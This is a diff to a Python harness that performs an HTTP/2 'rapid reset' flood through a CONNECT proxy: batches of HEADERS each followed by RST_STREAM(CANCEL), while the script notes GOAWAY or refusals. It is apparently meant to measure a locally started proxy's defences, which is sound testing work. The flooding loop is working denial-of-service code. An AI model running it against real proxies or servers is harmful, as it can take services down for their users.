@@ -2,7 +2,7 @@
 
 It opens a CONNECT tunnel through the proxy, speaks h2 over TLS inside it and
 sends HEADERS immediately followed by RST_STREAM(CANCEL), as fast as the socket
-takes them. A reader thread records what the proxy answers (GOAWAY, resets).
+takes them, noting between batches what the proxy answers (GOAWAY, refusals).
 
 Run by hand against a proxy and origin started here, to measure:
 
@@ -11,6 +11,7 @@ Run by hand against a proxy and origin started here, to measure:
 
 from __future__ import annotations
 
+import select
 import socket
 import ssl
 import sys
@@ -76,66 +77,54 @@ def request_headers(host: str, port: int, path: str, method: str = "GET") -> lis
 
 
 def rapid_reset(proxy_port: int, host: str, port: int, streams: int, batch: int = 100) -> AttackResult:
-    """Send ``streams`` HEADERS+RST_STREAM pairs (paths /reset/N) and report what came back."""
+    """Send ``streams`` HEADERS+RST_STREAM pairs (paths /reset/N) and report what came back.
+
+    One thread does both: an SSL socket must not be read and written concurrently."""
     result = AttackResult()
     tls = open_h2_tunnel(proxy_port, host, port)
     conn = h2_client()
-    lock = threading.Lock()
     start = time.monotonic()
-    done = threading.Event()
 
-    def read() -> None:
-        try:
-            while not done.is_set():
-                try:
-                    data = tls.recv(65536)
-                except TimeoutError:
-                    continue
-                if not data:
-                    result.closed_by_proxy = True
-                    return
-                with lock:
-                    for event in conn.receive_data(data):
-                        if isinstance(event, h2.events.ConnectionTerminated):
-                            result.goaway_code = event.error_code
-                            result.goaway_seconds = time.monotonic() - start
-                        elif isinstance(event, h2.events.ResponseReceived):
-                            result.responses += 1
-                        elif isinstance(event, h2.events.StreamReset) and event.error_code == 7:
-                            result.refused += 1
-                    tls.sendall(conn.data_to_send())
-        except (OSError, h2.exceptions.ProtocolError) as e:
-            result.closed_by_proxy = True
-            result.errors.append(repr(e))
+    def receive(wait: float) -> None:
+        """Take in what the proxy sent, waiting up to ``wait`` seconds for the first bytes."""
+        while not result.closed_by_proxy and (tls.pending() or select.select([tls], [], [], wait)[0]):
+            wait = 0
+            data = tls.recv(65536)
+            if not data:
+                result.closed_by_proxy = True
+                return
+            for event in conn.receive_data(data):
+                if isinstance(event, h2.events.ConnectionTerminated):
+                    result.goaway_code = event.error_code
+                    result.goaway_seconds = time.monotonic() - start
+                elif isinstance(event, h2.events.ResponseReceived):
+                    result.responses += 1
+                elif isinstance(event, h2.events.StreamReset) and event.error_code == 7:
+                    result.refused += 1
+            if result.goaway_code is None:
+                tls.sendall(conn.data_to_send())
 
-    reader = threading.Thread(target=read, daemon=True)
-    with lock:
-        tls.sendall(conn.data_to_send())
-    tls.settimeout(0.5)
-    reader.start()
     try:
+        tls.sendall(conn.data_to_send())
         sent = 0
         while sent < streams and result.goaway_code is None and not result.closed_by_proxy:
-            with lock:
-                for _ in range(min(batch, streams - sent)):
-                    stream_id = conn.get_next_available_stream_id()
-                    conn.send_headers(stream_id, request_headers(host, port, f"/reset/{sent}"), end_stream=True)
-                    conn.reset_stream(stream_id, 8)  # CANCEL
-                    sent += 1
-                data = conn.data_to_send()
-            tls.sendall(data)
-        result.streams_sent = sent
-        # Wait a little for the proxy's verdict (GOAWAY or close) to arrive.
+            for _ in range(min(batch, streams - sent)):
+                stream_id = conn.get_next_available_stream_id()
+                conn.send_headers(stream_id, request_headers(host, port, f"/reset/{sent}"), end_stream=True)
+                conn.reset_stream(stream_id, 8)  # CANCEL
+                sent += 1
+            result.streams_sent = sent
+            tls.sendall(conn.data_to_send())
+            receive(0)
+        # Give the proxy a few seconds for its verdict (GOAWAY, or closing the connection).
         deadline = time.monotonic() + 5
         while time.monotonic() < deadline and result.goaway_code is None and not result.closed_by_proxy:
-            time.sleep(0.02)
+            receive(0.1)
     except (OSError, h2.exceptions.ProtocolError) as e:
         result.closed_by_proxy = True
         result.errors.append(repr(e))
     finally:
         result.seconds = time.monotonic() - start
-        done.set()
-        reader.join(2)
         tls.close()
     return result
 
